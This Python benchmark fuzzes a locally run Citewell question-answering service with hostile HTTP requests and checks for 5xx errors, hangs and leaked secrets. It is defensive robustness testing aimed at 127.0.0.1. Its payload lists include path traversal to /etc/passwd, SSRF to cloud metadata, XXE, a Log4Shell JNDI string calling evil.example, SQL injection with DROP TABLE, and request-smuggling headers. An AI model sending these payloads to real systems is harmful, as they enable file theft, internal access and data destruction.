"""A service that is sent nonsense, lies and attacks: whatever comes, the answer is no 5xx, no silence and no secret.

Each request is drawn from one of several families: questions with mutated bodies, hostile headers, hostile addresses,
lies about the length of a body, bytes that are no HTTP. A hang is a request that is neither answered nor hung up on
within the time that the service itself promises, and some more.

Example: .venv/bin/python -m benchmarks.hostile_requests --requests 20000
"""

import argparse
import asyncio
import json
import random
import re
from collections import Counter
from collections.abc import Callable
from contextlib import nullcontext
from dataclasses import dataclass, field
from pathlib import Path

from rich.console import Console
from rich.table import Table

from benchmarks.serving import home_with, serving

_ROOT = Path(__file__).parents[1]
_REQUEST_TIMEOUT_S = 2.0
_HANG_S = 30.0
_AT_ONCE = 16
_ADMIN_KEY = "a key that only the benchmark knows"

_METHODS = [
    "GET",
    "POST",
    "PUT",
    "DELETE",
    "PATCH",
    "OPTIONS",
    "HEAD",
    "TRACE",
    "CONNECT",
    "BREW",
    "get",
    "G\tT",
    "",
]
_PATHS = [
    "/v1/ask",
    "/v1/ask/batch",
    "/v1/documents",
    "/v1/documents/article",
    "/v1/references/1",
    "/v1/passages/x",
    "/v1/index/builds",
    "/v1/index/rollback",
    "/v1/jobs/x",
    "/v1/feedback",
    "/health/live",
    "/metrics",
    "/docs",
    "/",
    "/openapi.json",
]
_HOSTILE_PATHS = [
    "/../../../../etc/passwd",
    "/..%2f..%2f..%2fetc%2fpasswd",
    "/static/..%2f..%2fapp.py",
    "/static-offline-docs/%2e%2e/%2e%2e/core.py",
    "/v1/documents/%00",
    "/v1/documents/..%5c..%5cwindows",
    "/v1/documents/%ff%fe",
    "/v1/documents/" + "a" * 5_000,
    "/v1/references/-1",
    "/v1/references/" + "9" * 400,
    "//evil.example/v1/ask",
    "/\\evil.example",
    "/%0d%0aSet-Cookie:%20a=b",
    "http://evil.example/v1/ask?question=a",
    "*",
    "?",
    "/v1/ask?question=" + "a" * 3_000,
    "/v1/ask?question=%ff",
    "/v1/ask?question=a&question=b&top_k=1&top_k=2",
    "/v1/ask?" + "&".join(f"documents={at}" for at in range(500)),
    "/v1/ask?question=%F0%9F%A6%B5&top_k=1e3",
]
_HEADERS = [
    b"X-Request-ID: a\rb",
    b"X-Request-ID: " + b"x" * 5_000,
    b"X-Request-ID: \xff\xfe\x00",
    b"traceparent: 00-" + b"0" * 32 + b"-" + b"0" * 16 + b"-01",
    b"traceparent: " + b"f" * 4_000,
    b"Host: evil.example",
    b"Host: \xff",
    b"Host:",
    b"Origin: null",
    b"Origin: https://evil.example",
    b"X-Forwarded-For: 127.0.0.1, ' OR 1=1 --",
    b"X-Forwarded-Proto: javascript",
    b"X-Forwarded-Host: evil.example",
    b"Forwarded: for=127.0.0.1;proto=https",
    b"Authorization: Bearer",
    b"Authorization: Bearer " + b"a" * 8_000,
    b"Authorization: Basic YWRtaW46YWRtaW4=",
    b"Authorization: Bearer \x80\x81",
    b"Accept: application/x-ndjson;q=nan, */*;q=\xff",
    b"Accept-Encoding: gzip;q=1e400",
    b"Content-Type: application/json; charset=utf-7",
    b"Content-Type: multipart/form-data",
    b"Content-Type: multipart/form-data; boundary=" + b"-" * 300,
    b"Content-Type: multipart/form-data; boundary=x",
    b"Content-Type: \xff/\xfe",
    b"Content-Type: application/x-www-form-urlencoded",
    b"Content-Encoding: gzip",
    b"Expect: 100-continue",
    b"Expect: 200-ok",
    b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: eA==",
    b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
    b"Range: bytes=0-18446744073709551615,-1",
    b"If-None-Match: " + b'"a",' * 1_000,
    b"Cookie: " + b"a=b; " * 2_000,
    b"Idempotency-Key: " + b"k" * 1_000,
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: identity",
    b": no name",
    b"no colon",
    b"Na me: x",
    b"X: " + b"\x01\x02\x7f",
    b"X-Many: y\r\n" * 200 + b"X: y",
]
_BODIES = [
    b"",
    b"null",
    b"[]",
    b"{",
    b'{"question": "a"}' * 100,
    b'{"question": "' + b"a" * 70_000 + b'"}',
    b'{"question": "\\ud800"}',
    b'{"question": "\xff"}',
    b"\xef\xbb\xbf" + b'{"question": "a"}',
    '{"question": "a"}'.encode("utf-16"),
    b"[" * 20_000,
    b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    b'{"question": "a", "top_k": ' + b"9" * 5_000 + b"}",
    b'{"question": "a", "top_k": 1e999}',
    b'{"question": "a", "filter": {"documents": ["../../etc/passwd"]}}',
    b'{"questions": [' + b'{"id": "a", "question": "a"},' * 50 + b'{"id": "a", "question": "a"}]}',
    b'{"questions": [{"id": "a", "question": ""}]}',
    b'{"url": "http://169.254.169.254/latest/meta-data/"}',
    b'{"url": "file:///etc/passwd"}',
    b'{"url": "http://[::1]:22/"}',
    b'{"doi": "10.0/../../etc"}',
    b'{"version": "../../../etc"}',
    b'--x\r\nContent-Disposition: form-data; name="file"; filename="../../evil.md"\r\n\r\n# a\r\n--x--\r\n',
    b'--x\r\nContent-Disposition: form-data; name="file"\r\n\r\n',
    b"--x\r\n" * 2_000,
    b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    b"PK\x03\x04" + b"\x00" * 200,
    b"${jndi:ldap://evil.example/a}",
    b"' OR 1=1; DROP TABLE passages; --",
]
_NO_HTTP = [
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 64,
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET / HTTP/9.9\r\n\r\n",
    b"GET /\r\n\r\n",
    b"\r\n\r\n\r\n",
    b"\x00" * 500,
    b"POST /v1/ask HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n",
    b"POST /v1/ask HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n",
    b"POST /v1/ask HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POST /v1/ask HTTP/1.1\r\nHost: x\r\nContent-Length: 18446744073709551616\r\n\r\n",
    b"POST /v1/ask HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
    b"POST /v1/ask HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\na",
]
#: What must stand in no reply: where we are on the disk, how we fail, the key.
_SECRETS = re.compile(rb"Traceback|site-packages|/service/\w+\.py|root:x:0:0|" + _ADMIN_KEY.encode())

Draw = Callable[[random.Random], bytes]


@dataclass(slots=True)
class Findings:
    """What came back, and the requests that got what none should get."""

    statuses: Counter[str] = field(default_factory=Counter)
    failures: list[tuple[str, bytes]] = field(default_factory=list)

    def add(self, request: bytes, received: bytes | None) -> None:
        """Judge what one request got: None is a hang."""
        if received is None:
            self.statuses["hang"] += 1
            self.failures.append(("hang", request))
            return
        found = re.match(rb"HTTP/1\.1 (\d{3})", received)
        status = found[1].decode() if found else "hung up on" if not received else "no HTTP"
        self.statuses[status] += 1
        if status == "no HTTP" or (status.startswith("5") and status != "503"):
            self.failures.append((status, request))
        if _SECRETS.search(received):
            self.failures.append(("a secret", request))


def draw_request(source: random.Random) -> bytes:
    """Draw one hostile request."""
    return source.choice(
        (_hostile_body, _hostile_body, _hostile_headers, _hostile_path, _lying_length, _no_http)
    )(source)


def _hostile_body(source: random.Random) -> bytes:
    body = source.choice(_BODIES) if source.random() < 0.5 else _mutated_json(source)
    kind = source.choice(
        [b"application/json", b"application/json", b"multipart/form-data; boundary=x", b"text/plain"]
    )
    headers = [b"Content-Type: " + kind, *_some_key(source)]
    return _assemble(source.choice(["POST", "POST", "PUT"]), source.choice(_PATHS), headers, body)


def _mutated_json(source: random.Random) -> bytes:
    valid = {
        "question": "What helps a calf cramp at night?",
        "top_k": 5,
        "filter": {"references": [1]},
        "answer": "none",
    }
    body = bytearray(json.dumps(valid).encode())
    for _ in range(source.randint(1, 8)):
        at = source.randrange(len(body))
        action = source.randrange(4)
        if action == 0:
            body[at] = source.randrange(256)
        elif action == 1:
            del body[at : at + source.randint(1, 10)]
            body = body or bytearray(b"{")
        elif action == 2:
            body[at:at] = source.randbytes(source.randint(1, 10))
        else:
            body[at:at] = body[at : at + source.randint(1, 40)]
    return bytes(body)


def _hostile_headers(source: random.Random) -> bytes:
    headers = source.sample(_HEADERS, source.randint(1, 4))
    body = b'{"question": "calf cramp", "top_k": 1}'
    return _assemble(source.choice(_METHODS), source.choice(_PATHS), headers, body)


def _hostile_path(source: random.Random) -> bytes:
    path = source.choice(_HOSTILE_PATHS)
    if source.random() < 0.3:
        path = (
            source.choice(_PATHS)
            + "/"
            + "".join(chr(source.randrange(33, 127)) for _ in range(source.randrange(40)))
        )
    return _assemble(source.choice(_METHODS), path, _some_key(source), b"")


def _lying_length(source: random.Random) -> bytes:
    body = b'{"question": "calf"}'
    said = source.choice([len(body) + source.randint(1, 1_000), source.randint(0, len(body)), 10**9])
    head = f"POST {source.choice(_PATHS)} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    return f"{head}Content-Length: {said}\r\n\r\n".encode() + body


def _no_http(source: random.Random) -> bytes:
    return source.choice(_NO_HTTP) if source.random() < 0.7 else source.randbytes(source.randint(1, 300))


def _some_key(source: random.Random) -> list[bytes]:
    keys = ["", "wrong", _ADMIN_KEY]
    key = source.choices(keys, [6, 3, 1])[0]
    return [f"Authorization: Bearer {key}".encode()] if key else []


def _assemble(method: str, path: str, headers: list[bytes], body: bytes) -> bytes:
    head = [f"{method} {path} HTTP/1.1".encode("latin-1"), b"Host: 127.0.0.1", *headers]
    return b"\r\n".join([*head, b"Content-Length: %d" % len(body), b"Connection: close"]) + b"\r\n\r\n" + body


async def send_all(port: int, n: int, *, seed: int, hang_s: float = _HANG_S) -> Findings:
    """Send n requests, some at a time, each over a connection of its own."""
    source, findings = random.Random(seed), Findings()  # noqa: S311  # the same attack every time
    left = iter(range(n))

    async def sender() -> None:
        for _ in left:
            request = draw_request(source)
            findings.add(request, await _exchange(port, request, hang_s))

    await asyncio.gather(*(sender() for _ in range(_AT_ONCE)))
    return findings


async def _exchange(port: int, request: bytes, hang_s: float) -> bytes | None:
    """Return all that comes until the service hangs up, None if it neither answers whole nor hangs up in time."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    received = b""
    try:
        async with asyncio.timeout(hang_s):
            writer.write(request)
            while part := await reader.read(65_536):
                received += part
    except ConnectionError:
        pass  # hung up on while we were still sending
    except TimeoutError:
        return None
    finally:
        writer.close()
    return received


def main() -> None:
    """Print what came back; exit with 1 if anything came that never should."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("--requests", type=int, default=20_000)
    parser.add_argument("--seed", type=int, default=20261125)
    parser.add_argument(
        "--home", type=Path, help="a folder with corpus/ and a built index/, instead of a copy"
    )
    options = parser.parse_args()
    changes = {
        "CITEWELL_REQUEST_TIMEOUT_S": str(_REQUEST_TIMEOUT_S),
        "CITEWELL_ADMIN_KEY": _ADMIN_KEY,
    }
    with (
        nullcontext(options.home) if options.home else home_with(_ROOT / "corpus") as home,
        serving(home, **changes) as service,
    ):
        before = service.rss_mib()
        findings = asyncio.run(send_all(service.port, options.requests, seed=options.seed))
        alive, _ = service.get("/health/live")
        after = service.rss_mib()
        log = service.log.read_text(encoding="utf-8")
    table = Table("what came back", "times")
    for status, times in sorted(findings.statuses.items()):
        table.add_row(status, f"{times:,}")
    table.add_row("5xx but 503, hangs, secrets", f"{len(findings.failures)}")
    table.add_row("tracebacks in the log", f"{log.count('Traceback')}")
    table.add_row("memory, MiB: before, after", f"{before:.1f}, {after:.1f}")
    console = Console(width=120)
    console.print(table)
    for kind, request in findings.failures[:10]:
        console.print(f"{kind}: {request[:300]!r}", markup=False)
    if findings.failures or alive != 200:
        raise SystemExit(1)


if __name__ == "__main__":
    main()
